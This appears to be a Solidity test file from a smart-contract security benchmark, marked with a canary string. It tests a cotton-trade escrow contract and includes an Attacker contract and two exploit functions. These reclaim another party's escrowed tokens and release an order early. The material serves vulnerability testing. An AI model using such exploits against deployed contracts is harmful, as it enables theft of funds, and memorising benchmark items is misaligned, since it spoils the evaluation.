// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./CottonEscrow.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-f0af5f90-b511-4893-9954-523118413486

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_700_000_000;

    Coin private coin;
    CottonEscrow private escrow;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        escrow = new CottonEscrow(coin);
        coin.transfer(ANA, 2_000e18);
        vm.startPrank(ANA);
        coin.approve(address(escrow), 2_000e18);
        escrow.order(BEN, 500e18, 30 days);
        escrow.order(CAT, 300e18, 10 days);
        mallory = new Attacker(escrow);
        escrow.order(address(mallory), 400e18, 60 days);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        uint256 id = escrow.order(BEN, 200e18, 1 days);
        require(id == 3 && coin.balanceOf(address(escrow)) == 1_400e18, "ordered");
        escrow.release(id);
        require(coin.balanceOf(BEN) == 200e18, "released");
        escrow.order(BEN, 50e18, 5 days);
        vm.warp(START + 10 days);
        escrow.reclaim(1, CAT);
        require(coin.balanceOf(CAT) == 300e18, "reclaimed");
        vm.stopPrank();
        vm.prank(BEN);
        escrow.decline(0);
        require(coin.balanceOf(ANA) == 1_050e18, "declined");
        vm.warp(START + 19 days);
        escrow.release(4);
        require(coin.balanceOf(BEN) == 250e18 && coin.balanceOf(address(escrow)) == 400e18, "released in the end");
    }

    function test_RefusesOrders() public {
        vm.startPrank(ANA);
        vm.expectRevert(CottonEscrow.NoAccount.selector);
        escrow.order(address(0), 1, 1);
        vm.expectRevert(CottonEscrow.NoPrice.selector);
        escrow.order(BEN, 0, 1);
        vm.stopPrank();
    }

    function test_RefusesOthers() public {
        vm.startPrank(CAT);
        vm.expectRevert(abi.encodeWithSelector(CottonEscrow.NotYours.selector, 0));
        escrow.decline(0);
        vm.warp(START + 16 days - 1);
        vm.expectRevert(abi.encodeWithSelector(CottonEscrow.NotYours.selector, 0));
        escrow.release(0);
        vm.warp(START + 44 days - 1);
        vm.expectRevert(abi.encodeWithSelector(CottonEscrow.NotYours.selector, 0));
        escrow.reclaim(0, CAT);
        vm.stopPrank();
    }

    function test_RefusesMills() public {
        vm.startPrank(ANA);
        vm.warp(START + 30 days - 1);
        vm.expectRevert(abi.encodeWithSelector(CottonEscrow.TooEarly.selector, 0));
        escrow.reclaim(0, ANA);
        vm.warp(START + 30 days);
        vm.expectRevert(CottonEscrow.NoAccount.selector);
        escrow.reclaim(0, address(0));
        escrow.reclaim(0, ANA);
        vm.expectRevert(CottonEscrow.NoPrice.selector);
        escrow.reclaim(0, ANA);
        vm.stopPrank();
    }

    function exploit() public {
        vm.warp(START + 44 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 500e18, "nothing gained");
    }

    // a fortnight before the bales are due
    function exploit2() public {
        vm.warp(START + 46 days);
        mallory.release();
    }

    function test_Exploit2() public {
        exploit2();
        require(forMill() == 0 && coin.balanceOf(address(mallory)) >= 400e18, "nothing lost");
    }

    // of the third price, as long as the mill may still find fault
    function forMill() public view returns (uint256) {
        (,, uint256 price, uint256 due) = escrow.orders(2);
        return block.timestamp >= due + escrow.GRACE() ? 400e18 : price + coin.balanceOf(ANA) - 800e18;
    }

    function target() public view returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(coin);
    }
}

contract Attacker {
    CottonEscrow private escrow;

    constructor(CottonEscrow e) {
        escrow = e;
    }

    function release() external {
        escrow.release(2);
    }

    function run() external {
        escrow.reclaim(0, address(this));
    }
}
